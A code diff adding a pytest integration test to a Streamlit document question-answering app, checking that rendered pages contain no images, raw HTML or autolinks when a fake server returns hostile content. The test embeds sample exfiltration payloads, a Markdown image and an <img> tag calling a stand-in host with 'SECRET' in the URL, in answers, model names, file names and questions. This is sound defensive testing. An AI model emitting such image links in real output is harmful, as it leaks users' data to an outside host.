@@ -251,6 +251,60 @@ def test_hostile_server_messages_fetch_nothing(hostile_server_app, listener, art
     assert model_links >= 2  # the metric and the warning show the name, its image as a link
 
 
+def _rendered_texts(at) -> list[str]:
+    """Every string an AppTest run hands to Streamlit as Markdown: bodies, captions, headings,
+    alerts, expander labels, metric labels and values."""
+    texts = [e.value for kind in ("markdown", "caption", "title", "header", "subheader",
+                                  "warning", "error", "info", "success")
+             for e in getattr(at, kind)]
+    texts += [e.label for e in at.expander]
+    texts += [str(m.value) for m in at.metric] + [m.label for m in at.metric]
+    return texts
+
+
+@pytest.mark.integration
+def test_every_text_the_app_renders_is_safe(monkeypatch, tmp_path):
+    """The cheap tier's guard on the wiring: through AppTest, with a hostile answer, file name,
+    question and model name, nothing the pages render holds an image, raw HTML or an autolink,
+    while the hostile text itself is shown."""
+    import streamlit
+    from streamlit.testing.v1 import AppTest
+
+    from fakeserver import FakeServer
+
+    app = str(Path(__file__).resolve().parent.parent / "app.py")
+    image = "![x](http://198.51.100.7/x.png?d=SECRET)"
+    with FakeServer() as server:
+        server.behaviour.answer = f"Thirty days. {image} <img src=http://198.51.100.7/SECRET.png>"
+        server.behaviour.model = f"evil {image}"
+        for name, value in {"SPARKDOCS_BASE_URL": server.base_url,
+                            "SPARKDOCS_CACHE_DIR": str(tmp_path / "cache"),
+                            "SPARKDOCS_CONTEXT_LENGTH": "6000", "SPARKDOCS_ANSWER_TOKENS": "48",
+                            "SPARKDOCS_MAX_RETRIES": "0"}.items():
+            monkeypatch.setenv(name, value)
+        streamlit.cache_resource.clear()  # services are per process: rebuild them from this env
+        try:
+            at = AppTest.from_file(app, default_timeout=60).run()
+            at.sidebar.file_uploader[0].set_value(
+                (f"terms {image}.md", b"# Terms\nThirty days.", "text/markdown")).run()
+            at.chat_input[0].set_value(f"What is the term? {image}").run()
+            assert not at.exception
+            texts = _rendered_texts(at)
+            at.switch_page("pages/library.py").run()
+            texts += _rendered_texts(at)
+            at.switch_page("pages/server.py").run()
+            checks = [b for b in at.button if b.label.startswith("Run all checks")]
+            checks[0].click().run()
+            assert not at.exception
+            texts += _rendered_texts(at)
+        finally:
+            streamlit.cache_resource.clear()
+    unsafe = {text: fetching_constructs(text) for text in texts if fetching_constructs(text)}
+    assert unsafe == {}
+    shown = "\n".join(texts)
+    assert shown.count("SECRET") >= 6  # name, question, answer (twice), model, library
+
+
 @pytest.mark.integration
 def test_server_makes_no_outbound_request_as_in_the_container(listener, tmp_path):
     """Started as the Docker image starts it (all interfaces, headless), Streamlit would look up
